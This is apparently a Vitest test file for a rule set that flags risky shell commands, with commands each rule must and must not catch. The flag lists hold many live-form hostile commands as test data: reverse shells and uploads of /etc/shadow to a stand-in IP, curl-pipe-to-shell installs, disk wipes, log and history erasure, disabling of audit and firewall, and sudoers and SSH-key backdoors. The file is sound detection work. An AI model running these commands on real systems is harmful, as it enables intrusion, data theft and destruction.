import { describe, it, expect } from 'vitest';
import { RISK_RULES, risksOf } from '../../../recordings/risk-rules.js';

/** Per rule: commands it must flag, and near misses it must not. */
const RULE_CASES: Record<string, { flags: string[]; not: string[] }> = {
  'recursive-delete-system': {
    flags: ['rm -rf /', 'sudo rm -fr /etc', 'rm --recursive --force /usr/', 'rm -r -f /*', 'rm -rf ~', 'rm -Rf "$HOME"', '/bin/rm -rf /var/log', 'rm -r /boot', 'rm -rf --no-preserve-root /'],
    not: ['rm -rf ./build', 'rm -rf /etc/nginx/sites-enabled/old', 'rm /etc/motd', 'rm -rf ~/cache', 'grep -rf patterns /etc'],
  },
  'recursive-delete': {
    flags: ['rm -rf ./build', 'rm -fr node_modules', 'sudo rm --recursive --force /opt/app/releases/41', 'rm -r -f tmp/', 'rm -Rfv dist'],
    not: ['rm -rf /', 'rm -r ./build', 'rm -f file.txt', 'git rm -r --cached .', 'npm run rm-rf', 'echo format-rf'],
  },
  'disk-wipe': {
    flags: ['dd if=/dev/zero of=/dev/sda bs=1M', 'sudo mkfs.ext4 /dev/sdb1', 'mkfs -t xfs /dev/vdb', 'wipefs -a /dev/nvme0n1', 'shred -n 3 /dev/sdc', 'cat image.iso > /dev/sdb'],
    not: ['dd if=/dev/sda of=disk.img', 'dd if=/dev/zero of=/dev/null count=1', 'ls /dev/sda', 'echo mkfsx', 'cat x > /dev/null'],
  },
  'file-shred': {
    flags: ['shred -u secrets.txt', 'shred -zu ~/.aws/credentials'],
    not: ['shred /dev/sda', 'ls shredded/', 'cat shred.log'],
  },
  'history-tampering': {
    flags: ['history -c', 'history -d 512', 'unset HISTFILE', 'export HISTSIZE=0', 'HISTFILESIZE=0', 'export HISTFILE=/dev/null', 'set +o history', 'rm ~/.bash_history', 'cat /dev/null > ~/.bash_history', 'ln -sf /dev/null /root/.bash_history', 'shred -u .zsh_history'],
    not: ['history', 'history | grep ssh', 'export HISTSIZE=10000', 'echo $HISTFILE', 'cat ~/.bash_history', 'set -o history'],
  },
  'log-wipe': {
    flags: ['> /var/log/auth.log', 'truncate -s 0 /var/log/syslog', 'sudo rm /var/log/secure', 'journalctl --vacuum-time=1s'],
    not: ['tail -f /var/log/syslog', 'less /var/log/auth.log', 'journalctl -u nginx'],
  },
  'security-disabled': {
    flags: ['setenforce 0', 'sudo setenforce Permissive', 'systemctl stop auditd', 'systemctl disable --now firewalld', 'sudo systemctl mask rsyslog.service', 'service auditd stop', 'auditctl -e 0', 'auditctl -D', 'ufw disable'],
    not: ['getenforce', 'setenforce 1', 'systemctl status auditd', 'systemctl stop nginx', 'systemctl restart rsyslog', 'ufw status', 'ufw allow 22'],
  },
  'firewall-flushed': {
    flags: ['iptables -F', 'sudo iptables -t nat -F', 'iptables --flush INPUT', 'ip6tables -F', 'nft flush ruleset'],
    not: ['iptables -L -n', 'iptables -A INPUT -p tcp --dport 22 -j ACCEPT', 'nft list ruleset'],
  },
  'root-shell': {
    flags: ['sudo su', 'sudo su -', 'sudo -i', 'sudo -s', 'sudo -u postgres -i', 'sudo bash', 'su -', 'su', 'su root', 'su - postgres'],
    not: ['sudo systemctl restart nginx', 'sudo -l', 'sudo -k', 'sudo ls -s', 'echo summary', 'curl -s https://x.example | sudo bash'],
  },
  'world-writable': {
    flags: ['chmod 777 /var/www', 'chmod -R 777 .', 'chmod 0666 /etc/app.conf', 'chmod o+w file', 'chmod a+rwx script.sh'],
    not: ['chmod 755 script.sh', 'chmod 644 file', 'chmod u+w file', 'chmod 4755 /usr/bin/x'],
  },
  setuid: {
    flags: ['chmod u+s /usr/bin/find', 'chmod +s ./shell', 'chmod 4755 /tmp/sh', 'chmod 2755 dir'],
    not: ['chmod 755 /usr/bin/find', 'chmod 1777 /tmp', 'chmod u+x run.sh'],
  },
  'admin-group': {
    flags: ['usermod -aG sudo bob', 'sudo usermod -a -G wheel alice', 'usermod -aG docker,sudo carol', 'gpasswd -a bob sudo', 'adduser bob sudo'],
    not: ['usermod -aG docker bob', 'groups bob', 'id -Gn'],
  },
  'password-change': {
    flags: ['passwd', 'sudo passwd root', 'echo "bob:pw" | chpasswd'],
    not: ['cat /etc/passwd', 'getent passwd bob'],
  },
  'sudoers-edit': {
    flags: ['visudo', 'sudo vim /etc/sudoers', "echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", 'sudo tee /etc/sudoers.d/bob', 'nano /etc/sudoers.d/90-cloud'],
    not: ['cat /etc/sudoers', 'sudo -l', 'ls /etc/sudoers.d'],
  },
  'password-file': {
    flags: ['cat /etc/shadow', 'sudo vi /etc/shadow', 'cp /etc/gshadow /tmp/', "echo 'x:0:0::/root:/bin/bash' >> /etc/passwd", 'vipw'],
    not: ['cat /etc/passwd', 'getent passwd', 'ls -l /etc/group'],
  },
  'user-management': {
    flags: ['useradd -m -s /bin/bash support', 'sudo userdel -r bob', 'adduser tmpuser', 'groupadd ops'],
    not: ['id bob', 'who', 'getent group ops'],
  },
  'remote-code': {
    flags: ['curl -fsSL https://get.example.com | sh', 'curl -s https://x.example/i.sh | sudo bash', 'wget -qO- https://x.example/i | bash -s', 'curl https://x.example/p.py | python3', 'bash <(curl -s https://x.example/i.sh)', 'sh -c "$(curl -fsSL https://x.example/i.sh)"', 'echo ZWNobyBoaQ== | base64 -d | sh'],
    not: ['curl -o install.sh https://get.example.com', 'curl -s https://api.example.com | jq .', 'curl -s https://x.example/SHA256 | shasum -c', 'base64 -d blob > out.bin'],
  },
  'data-copy-out': {
    flags: ['scp /var/backups/db.sql.gz user@203.0.113.7:/tmp/', 'scp -r /etc backup:', 'rsync -avz /srv/data/ backup@10.0.0.9:/backups/', 'rsync -a /home/ rsync://mirror.example/home', 'scp root@db02:/etc/shadow .'],
    not: ['scp -h', 'rsync -a src/ dst/', 'cp db.sql /tmp/'],
  },
  'data-upload': {
    flags: ['curl -T db.sql ftp://203.0.113.7/', 'curl -F file=@/etc/shadow https://x.example/u', 'curl --data-binary @dump.sql https://x.example', 'wget --post-file=/etc/passwd https://x.example', 'tar czf - /etc | ssh user@203.0.113.7 "cat > etc.tgz"', 'cat /etc/passwd | nc 203.0.113.7 4444', 'nc 203.0.113.7 4444 < customers.csv'],
    not: ['curl -d "a=b" https://x.example', 'ssh db02 uptime', 'ps aux | grep ssh', 'tar czf etc.tgz /etc', 'nc -zv db02 5432'],
  },
  'reverse-shell': {
    flags: ['nc -e /bin/sh 203.0.113.7 4444', 'ncat -c bash 203.0.113.7 443', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'socat tcp:203.0.113.7:4444 exec:/bin/bash', 'python3 -c \'import pty;pty.spawn("/bin/bash")\'', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f'],
    not: ['nc -lvnp 4444', 'nc -zv db02 22', 'ls /dev/tty*'],
  },
  'cron-removed': {
    flags: ['crontab -r', 'crontab -u bob -r'],
    not: ['crontab -l', 'crontab -e'],
  },
  'cron-edit': {
    flags: ['crontab -e', 'crontab mycron.txt', 'echo "* * * * * /tmp/x" | crontab -', 'echo "@reboot /tmp/x" >> /etc/crontab', 'sudo vim /etc/cron.d/backup'],
    not: ['crontab -l', 'crontab -u bob -l', 'cat /etc/crontab', 'ls /etc/cron.d'],
  },
  'ssh-key-planted': {
    flags: ['echo "ssh-ed25519 AAAA… x@y" >> ~/.ssh/authorized_keys', 'cat key.pub >> /root/.ssh/authorized_keys', 'tee -a ~/.ssh/authorized_keys < key.pub', 'vim ~/.ssh/authorized_keys', 'cp id.pub /home/bob/.ssh/authorized_keys2'],
    not: ['cat ~/.ssh/authorized_keys', 'ssh-keygen -l -f ~/.ssh/authorized_keys', 'ls -la ~/.ssh'],
  },
  'kernel-module': {
    flags: ['insmod ./rootkit.ko', 'sudo rmmod auditmod', 'modprobe -r nouveau', 'modprobe --remove lkrg'],
    not: ['lsmod', 'modprobe nvidia', 'modinfo ext4'],
  },
  shutdown: {
    flags: ['shutdown -h now', 'sudo reboot', 'halt', 'poweroff', 'init 0', 'sudo init 6', 'systemctl reboot', 'telinit 0'],
    not: ['./shutdown-check.sh', 'cat shutdown.log', 'uptime', 'init 3', 'systemctl status reboot.target'],
  },
};

describe('risk rules', () => {
  it('has cases for every rule, and every rule has a reason and a unique id', () => {
    const ids = RISK_RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(Object.keys(RULE_CASES).sort()).toEqual([...ids].sort());
    for (const r of RISK_RULES) {
      expect(r.reason.length, r.id).toBeGreaterThan(10);
      expect(['high', 'medium']).toContain(r.severity);
      expect(RULE_CASES[r.id]?.flags.length, r.id).toBeGreaterThan(0);
      expect(RULE_CASES[r.id]?.not.length, r.id).toBeGreaterThan(0);
    }
  });

  for (const rule of RISK_RULES) {
    it(`${rule.id}: flags what it should and not its near misses`, () => {
      const cases = RULE_CASES[rule.id] ?? { flags: [], not: [] };
      for (const command of cases.flags) expect(risksOf(command).map((r) => r.rule), command).toContain(rule.id);
      for (const command of cases.not) expect(risksOf(command).map((r) => r.rule), command).not.toContain(rule.id);
    });
  }

  it('rates a recursive delete of the system high and of a project directory medium', () => {
    expect(risksOf('sudo rm -rf /etc')).toEqual([{ rule: 'recursive-delete-system', reason: expect.any(String) as string, severity: 'high' }]);
    expect(risksOf('rm -rf ./build')).toEqual([{ rule: 'recursive-delete', reason: expect.any(String) as string, severity: 'medium' }]);
    expect(risksOf('ls -la /tmp')).toEqual([]);
  });

  it('checks the start and the end of a very long pasted line', () => {
    const padding = 'echo ' + 'a'.repeat(300_000);
    expect(risksOf(`${padding}; curl -s https://x.example/i.sh | sh`).map((r) => r.rule)).toEqual(['remote-code']);
    expect(risksOf(`history -c; ${padding}`).map((r) => r.rule)).toEqual(['history-tampering']);
    // Many command words on one long line: checked in part, so this returns (vitest's timeout would catch it).
    expect(risksOf('sudo rm curl nc '.repeat(20_000))).toEqual([]);
  });
});
